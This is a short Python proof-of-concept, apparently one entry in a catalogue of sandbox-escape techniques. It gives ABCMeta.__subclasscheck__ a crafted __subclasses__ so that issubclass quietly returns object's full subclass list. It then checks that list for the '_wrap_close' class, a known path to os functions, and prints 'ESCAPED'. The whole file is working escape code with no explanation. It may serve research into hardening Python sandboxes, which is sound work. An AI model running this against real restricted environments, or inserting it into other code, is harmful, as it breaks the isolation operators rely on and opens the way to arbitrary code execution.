# technique: ABCMeta.__subclasscheck__ asks for __subclasses__: we hand it the real method, bound to object, and keep what it returns
# goal: subclasses
# source: own analysis: attacker's C callables below a trusted frame
import abc
import functools
kept = []


class X(abc.ABC):
    __subclasses__ = functools.partial(
        next, map(kept.append, map(type.__subclasses__, [object])))


try:
    issubclass(int, X)
except TypeError:
    pass
if any(kind.__name__ == '_wrap_close' for kind in kept[0]):
    print('ESCAPED', len(kept[0]))
